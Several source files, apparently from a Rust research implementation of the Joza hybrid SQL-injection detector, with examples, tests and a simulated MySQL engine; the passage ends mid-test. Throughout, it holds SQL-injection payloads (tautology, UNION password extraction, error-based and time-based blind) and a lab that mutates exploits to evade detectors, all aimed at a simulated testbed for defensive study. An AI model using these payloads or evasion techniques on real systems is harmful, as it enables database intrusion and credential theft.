//!   query with approximate string matching and flags critical SQL tokens
//!   the attacker appears to control;
//! * **PTI** (positive taint inference) trusts only the string fragments
//!   extracted from the application's own source code and flags critical
//!   tokens not covered by any single fragment.
//!
//! A query is safe iff *both* deem it safe. Run with:
//!
//! ```text
//! cargo run --example quickstart
//! ```

use joza::core::{Joza, JozaConfig};

fn main() {
    // In a real deployment `Joza::install` extracts fragments from every
    // application source file. Here we list the fragments the vulnerable
    // program contains (the §III-B example from the paper).
    let fragments = ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];
    let joza = Joza::builder().fragments(fragments).config(JozaConfig::optimized()).build();

    // A session captures the raw request inputs before the application can
    // transform them (§IV-B), then checks each outgoing query.
    let mut session = joza.session();

    println!("== benign request ==");
    session.capture_input("id", "42");
    let verdict = session.check("SELECT * FROM records WHERE ID=42 LIMIT 5");
    println!(
        "query is safe: {} (nti={:?}, pti={:?})\n",
        verdict.is_safe(),
        verdict.nti_attack(),
        verdict.pti_attack()
    );

    println!("== union-based injection ==");
    session.reset();
    let payload = "-1 UNION SELECT username()";
    session.capture_input("id", payload);
    let query = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
    let verdict = session.check(&query);
    println!("query: {query}");
    println!(
        "attack detected: {} by {:?} (nti={:?}, pti={:?})\n",
        !verdict.is_safe(),
        verdict.detector(),
        verdict.nti_attack(),
        verdict.pti_attack()
    );

    println!("== why the hybrid matters ==");
    // This payload is short and built entirely from tokens that happen to
    // exist in a richer application vocabulary — it would evade PTI alone.
    let vocab_rich = Joza::builder()
        .fragments(["id", "SELECT * FROM records WHERE ID=", " LIMIT 5", "OR", "=", "1"])
        .config(JozaConfig::optimized())
        .build();
    let payload = "1 OR 1 = 1";
    let query = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
    let verdict = vocab_rich.check_query(&[payload], &query);
    println!(
        "tautology {payload:?}: pti evaded={}, nti caught={}",
        verdict.pti_attack() == Some(false),
        verdict.nti_attack() == Some(true)
    );
    assert!(!verdict.is_safe(), "hybrid must detect the tautology");

    println!("\nCumulative stats: {:?}", joza.stats());
}
