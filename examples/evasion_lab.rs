//! The §V evasion story, replayed end to end (the paper's Figure 6).
//!
//! For one testbed plugin this example shows all four quadrants:
//!
//! 1. the original exploit — detected by both NTI and PTI;
//! 2. the quote-stuffed mutation — evades NTI (the magic-quotes edit
//!    distance blows past any threshold) but PTI catches it;
//! 3. the Taintless mutation — rebuilt from the application's own
//!    fragment vocabulary so PTI passes it, but NTI catches it;
//! 4. Joza (the hybrid) — detects every variant.
//!
//! ```text
//! cargo run --example evasion_lab
//! ```

use joza::core::{Joza, JozaConfig};
use joza::lab::corpus::Exploit;
use joza::lab::nti_evasion::mutate_for_nti;
use joza::lab::taintless::evade_pti;
use joza::lab::verify::{exploit_effect_observed, request_for};
use joza::lab::{build_lab, Lab};
use joza::phpsim::fragments::FragmentSet;
use joza::pti::analyzer::{PtiAnalyzer, PtiConfig};

fn detected(lab: &mut Lab, joza: &Joza, plugin: &joza::lab::VulnPlugin, payload: &str) -> bool {
    let resp = lab.server.handle_with(&request_for(plugin, payload), joza);
    resp.blocked || resp.executed < resp.queries.len()
}

fn main() {
    let mut lab = build_lab();
    let nti_only = Joza::install(&lab.server.app, JozaConfig::nti_only());
    let pti_only = Joza::install(&lab.server.app, JozaConfig::pti_only());
    let hybrid = Joza::install(&lab.server.app, JozaConfig::optimized());
    let threshold = hybrid.config().nti.threshold;

    // Taintless needs the application's fragment vocabulary to search in.
    let mut set = FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    let analyzer = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());

    // A tautology plugin makes the PTI evasion visible (short payloads).
    let plugin = lab
        .plugins
        .iter()
        .find(|p| p.name == "A to Z Category Listing")
        .expect("testbed plugin")
        .clone();
    let original = plugin.exploit.primary_payload().to_string();

    println!(
        "plugin: {} v{} — vulnerable parameter {:?}",
        plugin.name, plugin.version, plugin.param
    );
    println!("original exploit payload: {original:?}\n");

    println!("== quadrant A: original exploit ==");
    println!("  NTI detects: {}", detected(&mut lab, &nti_only, &plugin, &original));
    println!("  PTI detects: {}", detected(&mut lab, &pti_only, &plugin, &original));

    println!("\n== quadrant B: Taintless mutation (PTI evasion) ==");
    match evade_pti(&mut lab.server, &plugin, &analyzer) {
        Some(evasion) => {
            let mutated = evasion.mutated.primary_payload().to_string();
            println!("  transforms applied: {:?}", evasion.transforms);
            println!("  mutated payload: {mutated:?}");
            let works = exploit_effect_observed(&mut lab.server, &plugin, &evasion.mutated, None);
            println!("  still a working exploit: {works}");
            println!(
                "  PTI detects: {} (evaded!)",
                detected(&mut lab, &pti_only, &plugin, &mutated)
            );
            println!(
                "  NTI detects: {} (the hybrid's other half)",
                detected(&mut lab, &nti_only, &plugin, &mutated)
            );
            println!("  Joza detects: {}", detected(&mut lab, &hybrid, &plugin, &mutated));
        }
        None => println!("  Taintless could not adapt this exploit (PTI holds)"),
    }

    println!("\n== quadrant C: quote-stuffed mutation (NTI evasion) ==");
    let nti_mutant = mutate_for_nti(&plugin, threshold);
    let mutated = nti_mutant.primary_payload().to_string();
    println!("  mutated payload: {mutated:?}");
    if let Exploit::Leak { .. } = nti_mutant {
        let works = exploit_effect_observed(&mut lab.server, &plugin, &nti_mutant, None);
        println!("  still a working exploit: {works}");
    }
    println!(
        "  NTI detects: {} (evaded when false)",
        detected(&mut lab, &nti_only, &plugin, &mutated)
    );
    println!(
        "  PTI detects: {} (the hybrid's other half)",
        detected(&mut lab, &pti_only, &plugin, &mutated)
    );
    println!("  Joza detects: {}", detected(&mut lab, &hybrid, &plugin, &mutated));

    println!("\nThe complementary failure modes are exactly why the hybrid exists (§III-C).");
}
