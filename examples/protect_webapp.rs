//! End-to-end protection of a (simulated) web application.
//!
//! Builds the WP-SQLI-LAB testbed — WordPress plus 50 vulnerable plugins
//! and an in-memory MySQL-subset database — demonstrates that a real
//! exploit leaks a secret from the unprotected application, then installs
//! Joza and shows the same exploit is stopped while benign traffic is
//! untouched. Both of the paper's recovery policies are shown (§IV-E).
//!
//! ```text
//! cargo run --example protect_webapp
//! ```

use joza::core::{Joza, JozaConfig, RecoveryPolicy};
use joza::lab::verify::request_for;
use joza::lab::{build_lab, wordpress};

fn main() {
    let mut lab = build_lab();
    let plugin = lab
        .plugins
        .iter()
        .find(|p| p.name == "Allow PHP in posts and pages")
        .expect("testbed plugin")
        .clone();

    println!("== 1. the unprotected application is exploitable ==");
    let attack = request_for(&plugin, plugin.exploit.primary_payload());
    let resp = lab.server.handle(&attack);
    assert!(
        resp.body.contains(wordpress::SECRET_PASSWORD),
        "exploit should leak the admin password"
    );
    println!(
        "plugin {:?} v{} ({}), payload {:?}",
        plugin.name,
        plugin.version,
        plugin.cve,
        plugin.exploit.primary_payload()
    );
    println!("response leaks admin password: {:?}...\n", &resp.body[..resp.body.len().min(80)]);

    println!("== 2. install Joza (termination policy, the default) ==");
    // The installer extracts string fragments from every source file of
    // the application — core, plugins, everything reachable (§IV-A).
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    println!("fragments extracted: {}", joza.fragment_count());

    let resp = lab.server.handle_with(&attack, &joza);
    assert!(resp.blocked, "Joza must stop the exploit");
    assert!(!resp.body.contains(wordpress::SECRET_PASSWORD));
    println!("attack blocked; the user sees a blank page (body = {:?})\n", resp.body);

    println!("== 3. benign traffic is unaffected ==");
    let benign = request_for(&plugin, &plugin.benign_value);
    let resp = lab.server.handle_with(&benign, &joza);
    assert!(!resp.blocked);
    println!(
        "benign value {:?} served normally ({} queries executed)\n",
        plugin.benign_value, resp.executed
    );

    println!("== 4. error-virtualization policy ==");
    // Error virtualization returns a failed-query error code and lets the
    // application's own error handling run instead of killing the request.
    let joza_ev = Joza::install(
        &lab.server.app,
        JozaConfig { recovery: RecoveryPolicy::ErrorVirtualization, ..JozaConfig::optimized() },
    );
    let resp = lab.server.handle_with(&attack, &joza_ev);
    assert!(!resp.blocked, "error virtualization does not terminate");
    assert!(!resp.body.contains(wordpress::SECRET_PASSWORD), "and still leaks nothing");
    println!("application handled the virtualized error itself: {:?}", resp.body.trim());

    let stats = joza.stats();
    println!(
        "\nengine stats: {} queries checked, {} attacks stopped",
        stats.queries, stats.attacks
    );
}
