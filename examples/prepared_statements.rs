//! "Prepared statements are not a panacea" (§V-B): the Drupal
//! CVE-2014-3704 case study, end to end.
//!
//! The application below binds every value through a genuine prepared
//! statement — and is still injectable, because Drupal 7's
//! `expandArguments` derives placeholder *names* from user-controlled PHP
//! array keys and splices them into the statement text. Joza intercepts
//! the expanded text before it reaches the database.
//!
//! ```text
//! cargo run --example prepared_statements
//! ```

use joza::core::{Joza, JozaConfig};
use joza::lab::verify::request_for;
use joza::lab::{build_lab, wordpress};
use joza::webapp::request::HttpRequest;

fn main() {
    let mut lab = build_lab();
    let drupal = lab.cms_cases.iter().find(|c| c.name == "Drupal").unwrap().clone();
    println!("case study: {} v{} ({})\n", drupal.name, drupal.version, drupal.cve);

    println!("== 1. the prepared statement does its job on hostile *values* ==");
    let hostile_values = HttpRequest::get(&drupal.slug)
        .param("ids[0]", "0 OR 1=1")
        .param("ids[1]", "1' UNION SELECT user_pass FROM wp_users-- -");
    let resp = lab.server.handle(&hostile_values);
    assert!(!resp.body.contains(wordpress::SECRET_PASSWORD));
    println!("bound injection payloads stay inert data; response: {:?}\n", resp.body.trim());

    println!("== 2. …but a hostile placeholder *name* edits the statement text ==");
    let payload = drupal.exploit.primary_payload();
    println!("request: ids[0]=1 & ids[{payload}]=2");
    let attack = request_for(&drupal, payload);
    let resp = lab.server.handle(&attack);
    assert!(resp.body.contains(wordpress::SECRET_PASSWORD), "{}", resp.body);
    println!("expanded statement sent to be prepared:");
    for q in &resp.queries {
        println!("  {q}");
    }
    println!("the admin password leaks: {:?}\n", resp.body.trim());

    println!("== 3. Joza intercepts the expanded text ==");
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let resp = lab.server.handle_with(&attack, &joza);
    assert!(resp.blocked || resp.executed < resp.queries.len());
    println!(
        "attack stopped (blocked={}, executed {}/{} queries)",
        resp.blocked,
        resp.executed,
        resp.queries.len()
    );

    // Benign prepared traffic is untouched: literals are split at `:name`
    // placeholders during fragment extraction (§IV-A), so the expanded
    // benign text stays fragment-covered.
    let benign = request_for(&drupal, &drupal.benign_value);
    let resp = lab.server.handle_with(&benign, &joza);
    assert!(!resp.blocked);
    println!("benign prepared IN-list still served ({} queries executed)", resp.executed);
}
