//! Property-based tests for the in-memory MySQL-subset engine.

use joza_db::{Database, Value};
use proptest::prelude::*;

fn db_with(rows: &[(i64, &str)]) -> Database {
    let mut db = Database::new();
    db.create_table("t", &["id", "name"]);
    for (id, name) in rows {
        db.insert_row("t", vec![Value::Int(*id), (*name).into()]);
    }
    db
}

proptest! {
    /// The engine is total over arbitrary SQL text: parse errors are
    /// errors, never panics.
    #[test]
    fn execute_never_panics(sql in ".{0,200}") {
        let mut db = db_with(&[(1, "a")]);
        let _ = db.execute(&sql);
    }

    /// INSERT then COUNT(*) agrees with the number of inserts.
    #[test]
    fn insert_then_count(n in 0usize..30) {
        let mut db = Database::new();
        db.create_table("t", &["id", "name"]);
        for i in 0..n {
            let sql = format!("INSERT INTO t (id, name) VALUES ({i}, 'row{i}')");
            db.execute(&sql).expect("insert");
        }
        let r = db.execute("SELECT COUNT(*) FROM t").expect("count");
        prop_assert_eq!(r.rows[0][0].clone(), Value::Int(n as i64));
    }

    /// Point lookups return exactly the matching row.
    #[test]
    fn where_equality_filters(ids in proptest::collection::btree_set(0i64..100, 1..20)) {
        let rows: Vec<(i64, String)> = ids.iter().map(|i| (*i, format!("n{i}"))).collect();
        let row_refs: Vec<(i64, &str)> = rows.iter().map(|(i, s)| (*i, s.as_str())).collect();
        let mut db = db_with(&row_refs);
        let target = *ids.iter().next().unwrap();
        let r = db.execute(&format!("SELECT name FROM t WHERE id = {target}")).unwrap();
        prop_assert_eq!(r.rows.len(), 1);
        prop_assert_eq!(r.rows[0][0].as_str(), format!("n{target}"));
    }

    /// A tautology returns every row — the attack effect Joza prevents.
    #[test]
    fn tautology_returns_all(n in 1usize..20) {
        let rows: Vec<(i64, String)> = (0..n as i64).map(|i| (i, format!("n{i}"))).collect();
        let row_refs: Vec<(i64, &str)> = rows.iter().map(|(i, s)| (*i, s.as_str())).collect();
        let mut db = db_with(&row_refs);
        let r = db.execute("SELECT name FROM t WHERE id = -1 OR 1=1").unwrap();
        prop_assert_eq!(r.rows.len(), n);
    }

    /// UNION appends rows and keeps the left arity; mismatched arity errors.
    #[test]
    fn union_semantics(n in 1usize..10) {
        let rows: Vec<(i64, String)> = (0..n as i64).map(|i| (i, format!("n{i}"))).collect();
        let row_refs: Vec<(i64, &str)> = rows.iter().map(|(i, s)| (*i, s.as_str())).collect();
        let mut db = db_with(&row_refs);
        let r = db.execute("SELECT name FROM t WHERE id = -1 UNION SELECT name FROM t").unwrap();
        prop_assert_eq!(r.rows.len(), n);
        let err = db.execute("SELECT name FROM t UNION SELECT id, name FROM t");
        prop_assert!(err.is_err(), "arity mismatch must error");
    }

    /// ORDER BY + LIMIT: results are sorted and capped.
    #[test]
    fn order_by_limit(mut ids in proptest::collection::vec(0i64..1000, 1..25), k in 1usize..10) {
        ids.sort_unstable();
        ids.dedup();
        let rows: Vec<(i64, String)> = ids.iter().map(|i| (*i, format!("n{i}"))).collect();
        let row_refs: Vec<(i64, &str)> = rows.iter().map(|(i, s)| (*i, s.as_str())).collect();
        let mut db = db_with(&row_refs);
        let r = db.execute(&format!("SELECT id FROM t ORDER BY id DESC LIMIT {k}")).unwrap();
        prop_assert!(r.rows.len() <= k);
        let got: Vec<i64> = r.rows.iter().map(|row| match &row[0] {
            Value::Int(i) => *i,
            other => panic!("unexpected {other:?}"),
        }).collect();
        let mut expect = ids.clone();
        expect.sort_unstable_by(|a, b| b.cmp(a));
        expect.truncate(k.min(ids.len()));
        prop_assert_eq!(got, expect);
    }

    /// UPDATE changes exactly the matched rows; DELETE removes them.
    #[test]
    fn update_delete_roundtrip(n in 2usize..15) {
        let rows: Vec<(i64, String)> = (0..n as i64).map(|i| (i, format!("n{i}"))).collect();
        let row_refs: Vec<(i64, &str)> = rows.iter().map(|(i, s)| (*i, s.as_str())).collect();
        let mut db = db_with(&row_refs);
        db.execute("UPDATE t SET name = 'renamed' WHERE id = 0").unwrap();
        let r = db.execute("SELECT COUNT(*) FROM t WHERE name = 'renamed'").unwrap();
        prop_assert_eq!(r.rows[0][0].clone(), Value::Int(1));
        db.execute("DELETE FROM t WHERE id = 0").unwrap();
        let r = db.execute("SELECT COUNT(*) FROM t").unwrap();
        prop_assert_eq!(r.rows[0][0].clone(), Value::Int(n as i64 - 1));
    }

    /// SLEEP consumes virtual time, never wall-clock time.
    #[test]
    fn sleep_is_virtual(secs in 0i64..30) {
        let mut db = db_with(&[(1, "a")]);
        let t0 = db.clock_ms();
        let wall = std::time::Instant::now();
        db.execute(&format!("SELECT * FROM t WHERE id=1 AND SLEEP({secs})")).unwrap();
        prop_assert!(db.clock_ms() - t0 >= (secs as u64) * 1000);
        prop_assert!(wall.elapsed() < std::time::Duration::from_millis(200));
    }
}

/// String comparisons follow MySQL's case-insensitive default collation
/// for WHERE but values round-trip byte-exactly.
#[test]
fn string_semantics() {
    let mut db = db_with(&[(1, "Alice")]);
    let r = db.execute("SELECT name FROM t WHERE name = 'alice'").unwrap();
    assert_eq!(r.rows.len(), 1, "MySQL default collation is case-insensitive");
    assert_eq!(r.rows[0][0].as_str(), "Alice");
}

/// LIKE with % wildcards.
#[test]
fn like_patterns() {
    let mut db = db_with(&[(1, "hello world"), (2, "goodbye")]);
    let r = db.execute("SELECT id FROM t WHERE name LIKE '%world%'").unwrap();
    assert_eq!(r.rows.len(), 1);
    let r = db.execute("SELECT id FROM t WHERE name LIKE 'good%'").unwrap();
    assert_eq!(r.rows.len(), 1);
    let r = db.execute("SELECT id FROM t WHERE name LIKE '%zzz%'").unwrap();
    assert!(r.rows.is_empty());
}

/// Unknown table/column are errors the application can observe (the
/// standard-blind signal).
#[test]
fn errors_are_observable() {
    let mut db = db_with(&[(1, "a")]);
    assert!(db.execute("SELECT * FROM missing").is_err());
    assert!(db.execute("SELECT nope FROM t").is_err());
    assert!(db.execute("SELECT * FROM t WHERE").is_err());
}
