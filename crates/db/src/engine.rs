//! The database engine facade.

use crate::table::Table;
use joza_sqlparse::{parse, ParseError, Statement, Value};
use std::collections::HashMap;
use std::fmt;

/// An error from query execution.
#[derive(Debug, Clone, PartialEq)]
pub enum DbError {
    /// The query failed to parse.
    Parse(ParseError),
    /// Unknown table.
    UnknownTable(String),
    /// Unknown column.
    UnknownColumn(String),
    /// `UNION` arms with differing column counts.
    UnionColumnMismatch {
        /// Column count of the first arm.
        left: usize,
        /// Column count of the offending arm.
        right: usize,
    },
    /// An XPATH error raised by `EXTRACTVALUE`/`UPDATEXML` — the channel
    /// error-based injections exfiltrate through. The message embeds the
    /// evaluated argument, exactly like MySQL's `XPATH syntax error`.
    Xpath(String),
    /// Anything else (unsupported construct, bad function arity, …).
    Other(String),
}

impl fmt::Display for DbError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DbError::Parse(e) => write!(f, "SQL syntax error: {e}"),
            DbError::UnknownTable(t) => write!(f, "table '{t}' doesn't exist"),
            DbError::UnknownColumn(c) => write!(f, "unknown column '{c}'"),
            DbError::UnionColumnMismatch { left, right } => write!(
                f,
                "the used SELECT statements have a different number of columns ({left} vs {right})"
            ),
            DbError::Xpath(s) => write!(f, "XPATH syntax error: '{s}'"),
            DbError::Other(m) => f.write_str(m),
        }
    }
}

impl std::error::Error for DbError {}

impl From<ParseError> for DbError {
    fn from(e: ParseError) -> Self {
        DbError::Parse(e)
    }
}

/// The result of executing one statement.
#[derive(Debug, Clone, PartialEq)]
pub struct QueryResult {
    /// Output column names (empty for writes).
    pub columns: Vec<String>,
    /// Result rows (empty for writes).
    pub rows: Vec<Vec<Value>>,
    /// Rows affected by a write.
    pub affected: usize,
    /// Virtual time the query consumed, in milliseconds. Includes
    /// `SLEEP`/`BENCHMARK` charges — the double-blind signal.
    pub elapsed_ms: u64,
    /// Per-output-column provenance: the `(table, column)` cells each
    /// result column may draw values from (empty for writes). The
    /// second-order gate uses this to recognise values fetched from
    /// dirty cells and re-introduce them as taint sources.
    pub origins: Vec<Vec<(String, String)>>,
}

/// Side effects accumulated while evaluating expressions.
#[derive(Debug, Default)]
pub(crate) struct SideEffects {
    /// Milliseconds charged by SLEEP/BENCHMARK.
    pub sleep_ms: u64,
    /// Deterministic RAND() state.
    pub rand_state: u64,
}

/// An in-memory database: named tables plus a virtual clock.
#[derive(Debug, Default)]
pub struct Database {
    pub(crate) tables: HashMap<String, Table>,
    clock_ms: u64,
    queries_executed: u64,
}

impl Database {
    /// Creates an empty database.
    pub fn new() -> Self {
        Database::default()
    }

    /// Creates (or replaces) a table.
    pub fn create_table(&mut self, name: &str, columns: &[&str]) {
        self.tables.insert(name.to_ascii_lowercase(), Table::new(name, columns));
    }

    /// Appends a row to a table, padding to the schema.
    ///
    /// # Panics
    ///
    /// Panics if the table does not exist — table setup is harness code,
    /// not attacker-reachable.
    pub fn insert_row(&mut self, table: &str, row: Vec<Value>) {
        self.tables
            .get_mut(&table.to_ascii_lowercase())
            .unwrap_or_else(|| panic!("no such table {table}"))
            .push_row(row);
    }

    /// Looks up a table by case-insensitive name.
    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.get(&name.to_ascii_lowercase())
    }

    /// Iterates all tables in name order — a deterministic dump order, so
    /// two databases can be compared state-for-state (the hardening
    /// pass's differential verification diffs entire databases after
    /// original-vs-rewritten request runs).
    pub fn tables(&self) -> impl Iterator<Item = &Table> {
        let mut names: Vec<&String> = self.tables.keys().collect();
        names.sort();
        names.into_iter().map(move |n| &self.tables[n])
    }

    /// Total virtual time consumed by all queries, in milliseconds.
    pub fn clock_ms(&self) -> u64 {
        self.clock_ms
    }

    /// Number of statements executed so far.
    pub fn queries_executed(&self) -> u64 {
        self.queries_executed
    }

    /// Parses and executes one SQL statement.
    ///
    /// # Errors
    ///
    /// Returns [`DbError`] on parse failure or execution error; the error
    /// *message* is part of the observable behaviour (error-based
    /// injection).
    pub fn execute(&mut self, sql: &str) -> Result<QueryResult, DbError> {
        // Stacked queries: a quote/comment-aware scan for a top-level
        // `;` splits the text into statements executed in order
        // (MySQL multi-statement semantics: stop at the first error,
        // earlier effects persist). Queries without a top-level `;`
        // take the original single-statement path bit-identically.
        if let Some(stmts) = split_stacked(sql) {
            let mut total_elapsed = 0;
            let mut last = None;
            for s in &stmts {
                let r = self.execute_single(s)?;
                total_elapsed += r.elapsed_ms;
                last = Some(r);
            }
            let mut result = last.expect("split_stacked yields at least one statement");
            result.elapsed_ms = total_elapsed;
            return Ok(result);
        }
        self.execute_single(sql)
    }

    fn execute_single(&mut self, sql: &str) -> Result<QueryResult, DbError> {
        let stmt = parse(sql)?;
        self.execute_parsed(&stmt)
    }

    /// Executes an already-parsed statement (the prepared-statement path
    /// after binding; see [`Database::execute_prepared`]).
    ///
    /// # Errors
    ///
    /// Returns [`DbError`] on execution error.
    pub fn execute_parsed(&mut self, stmt: &Statement) -> Result<QueryResult, DbError> {
        self.queries_executed += 1;
        let mut side = SideEffects { sleep_ms: 0, rand_state: self.queries_executed };
        let result = match stmt {
            Statement::Select(sel) => {
                let (columns, rows) = crate::exec::run_select(self, sel, &mut side)?;
                let origins = crate::origins::select_origins(self, sel);
                QueryResult { columns, rows, affected: 0, elapsed_ms: 0, origins }
            }
            Statement::Insert(ins) => {
                let affected = crate::exec::run_insert(self, ins, &mut side)?;
                QueryResult {
                    columns: vec![],
                    rows: vec![],
                    affected,
                    elapsed_ms: 0,
                    origins: vec![],
                }
            }
            Statement::Update(upd) => {
                let affected = crate::exec::run_update(self, upd, &mut side)?;
                QueryResult {
                    columns: vec![],
                    rows: vec![],
                    affected,
                    elapsed_ms: 0,
                    origins: vec![],
                }
            }
            Statement::Delete(del) => {
                let affected = crate::exec::run_delete(self, del, &mut side)?;
                QueryResult {
                    columns: vec![],
                    rows: vec![],
                    affected,
                    elapsed_ms: 0,
                    origins: vec![],
                }
            }
        };
        // Virtual cost model: 1ms base cost per query + SLEEP charges.
        let elapsed = 1 + side.sleep_ms;
        self.clock_ms += elapsed;
        Ok(QueryResult { elapsed_ms: elapsed, ..result })
    }
}

/// Splits `sql` at top-level `;` separators, skipping string literals
/// (`'…'`, `"…"`, `` `…` `` with backslash and doubled-quote escapes),
/// line comments (`-- `, `#`) and block comments.
///
/// Returns `None` when there is no top-level `;` — the caller must then
/// use the original single-statement path — or when every segment is
/// blank. Comment-only trailing segments (the classic `; DROP …-- -`
/// suffix leaves one) are dropped rather than executed.
fn split_stacked(sql: &str) -> Option<Vec<String>> {
    let b = sql.as_bytes();
    let mut parts: Vec<&str> = Vec::new();
    let mut start = 0;
    let mut i = 0;
    let mut saw_semicolon = false;
    while i < b.len() {
        match b[i] {
            q @ (b'\'' | b'"' | b'`') => {
                i += 1;
                while i < b.len() {
                    if b[i] == b'\\' {
                        i += 2;
                    } else if b[i] == q {
                        if i + 1 < b.len() && b[i + 1] == q {
                            i += 2; // doubled quote stays inside the literal
                        } else {
                            i += 1;
                            break;
                        }
                    } else {
                        i += 1;
                    }
                }
            }
            b'-' if i + 1 < b.len()
                && b[i + 1] == b'-'
                && (i + 2 >= b.len() || b[i + 2].is_ascii_whitespace()) =>
            {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if i + 1 < b.len() && b[i + 1] == b'*' => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == b'*' && b[i + 1] == b'/') {
                    i += 1;
                }
                i = (i + 2).min(b.len());
            }
            b';' => {
                saw_semicolon = true;
                parts.push(&sql[start..i]);
                start = i + 1;
                i += 1;
            }
            _ => i += 1,
        }
    }
    if !saw_semicolon {
        return None;
    }
    parts.push(&sql[start..]);
    let stmts: Vec<String> = parts
        .into_iter()
        .map(str::trim)
        .filter(|s| segment_has_content(s))
        .map(String::from)
        .collect();
    if stmts.is_empty() {
        None
    } else {
        Some(stmts)
    }
}

/// True when the segment contains anything besides whitespace/comments.
fn segment_has_content(seg: &str) -> bool {
    let b = seg.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            c if c.is_ascii_whitespace() => i += 1,
            b'-' if i + 1 < b.len()
                && b[i + 1] == b'-'
                && (i + 2 >= b.len() || b[i + 2].is_ascii_whitespace()) =>
            {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if i + 1 < b.len() && b[i + 1] == b'*' => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == b'*' && b[i + 1] == b'/') {
                    i += 1;
                }
                i = (i + 2).min(b.len());
            }
            _ => return true,
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_db() -> Database {
        let mut db = Database::new();
        db.create_table("users", &["id", "user_login", "user_pass"]);
        db.insert_row("users", vec![Value::Int(1), "admin".into(), "p4ss".into()]);
        db.insert_row("users", vec![Value::Int(2), "bob".into(), "hunter2".into()]);
        db.create_table("posts", &["id", "title", "author_id", "status"]);
        db.insert_row(
            "posts",
            vec![Value::Int(10), "Hello".into(), Value::Int(1), "publish".into()],
        );
        db.insert_row("posts", vec![Value::Int(11), "Draft".into(), Value::Int(2), "draft".into()]);
        db.insert_row(
            "posts",
            vec![Value::Int(12), "World".into(), Value::Int(1), "publish".into()],
        );
        db
    }

    #[test]
    fn select_where() {
        let mut db = sample_db();
        let r = db.execute("SELECT title FROM posts WHERE status = 'publish'").unwrap();
        assert_eq!(r.rows.len(), 2);
    }

    #[test]
    fn select_star_column_order() {
        let mut db = sample_db();
        let r = db.execute("SELECT * FROM users WHERE id = 2").unwrap();
        assert_eq!(r.columns, ["id", "user_login", "user_pass"]);
        assert_eq!(r.rows[0][1], Value::Str("bob".into()));
    }

    #[test]
    fn tautology_returns_everything() {
        let mut db = sample_db();
        let benign = db.execute("SELECT * FROM users WHERE id = 999").unwrap();
        assert!(benign.rows.is_empty());
        let attacked = db.execute("SELECT * FROM users WHERE id = 999 OR 1=1").unwrap();
        assert_eq!(attacked.rows.len(), 2);
    }

    #[test]
    fn union_leaks_other_table() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT title FROM posts WHERE id = -1 UNION SELECT user_pass FROM users")
            .unwrap();
        let leaked: Vec<String> = r.rows.iter().map(|row| row[0].as_str()).collect();
        assert!(leaked.contains(&"p4ss".to_string()));
        assert!(leaked.contains(&"hunter2".to_string()));
    }

    #[test]
    fn union_column_mismatch_errors() {
        let mut db = sample_db();
        let err = db.execute("SELECT id, title FROM posts UNION SELECT id FROM users").unwrap_err();
        assert!(matches!(err, DbError::UnionColumnMismatch { left: 2, right: 1 }));
    }

    #[test]
    fn sleep_charges_virtual_time() {
        let mut db = sample_db();
        let r = db.execute("SELECT * FROM users WHERE id=1 AND SLEEP(2)").unwrap();
        assert!(r.elapsed_ms >= 2000);
        // And the WHERE is false overall (SLEEP returns 0).
        assert!(r.rows.is_empty());
        assert!(db.clock_ms() >= 2000);
    }

    #[test]
    fn conditional_sleep_is_the_double_blind_signal() {
        let mut db = sample_db();
        let truthy = db
            .execute("SELECT IF(SUBSTRING(user_pass,1,1)='p', SLEEP(1), 0) FROM users WHERE id=1")
            .unwrap();
        assert!(truthy.elapsed_ms >= 1000);
        let falsy = db
            .execute("SELECT IF(SUBSTRING(user_pass,1,1)='z', SLEEP(1), 0) FROM users WHERE id=1")
            .unwrap();
        assert!(falsy.elapsed_ms < 1000);
    }

    #[test]
    fn insert_update_delete() {
        let mut db = sample_db();
        let r = db
            .execute("INSERT INTO users (id, user_login, user_pass) VALUES (3, 'carol', 'x')")
            .unwrap();
        assert_eq!(r.affected, 1);
        let r = db.execute("UPDATE users SET user_pass = 'y' WHERE user_login = 'carol'").unwrap();
        assert_eq!(r.affected, 1);
        let r = db.execute("SELECT user_pass FROM users WHERE id = 3").unwrap();
        assert_eq!(r.rows[0][0], Value::Str("y".into()));
        let r = db.execute("DELETE FROM users WHERE id = 3").unwrap();
        assert_eq!(r.affected, 1);
        assert_eq!(db.table("users").unwrap().len(), 2);
    }

    #[test]
    fn unknown_table_and_column() {
        let mut db = sample_db();
        assert!(matches!(db.execute("SELECT * FROM nope").unwrap_err(), DbError::UnknownTable(_)));
        assert!(matches!(
            db.execute("SELECT nope FROM users").unwrap_err(),
            DbError::UnknownColumn(_)
        ));
    }

    #[test]
    fn error_based_extraction_leaks_through_message() {
        let mut db = sample_db();
        let err = db
            .execute("SELECT EXTRACTVALUE(1, CONCAT(0x7e, (SELECT user_pass FROM users LIMIT 1)))")
            .unwrap_err();
        let msg = err.to_string();
        assert!(msg.contains("p4ss"), "error message should leak data: {msg}");
    }

    #[test]
    fn parse_error_reported() {
        let mut db = sample_db();
        assert!(matches!(db.execute("SELEC 1").unwrap_err(), DbError::Parse(_)));
    }

    #[test]
    fn order_by_and_limit() {
        let mut db = sample_db();
        let r = db.execute("SELECT id FROM posts ORDER BY id DESC LIMIT 2").unwrap();
        let ids: Vec<i64> = r.rows.iter().map(|row| row[0].as_i64()).collect();
        assert_eq!(ids, [12, 11]);
        let r = db.execute("SELECT id FROM posts ORDER BY id LIMIT 1, 2").unwrap();
        let ids: Vec<i64> = r.rows.iter().map(|row| row[0].as_i64()).collect();
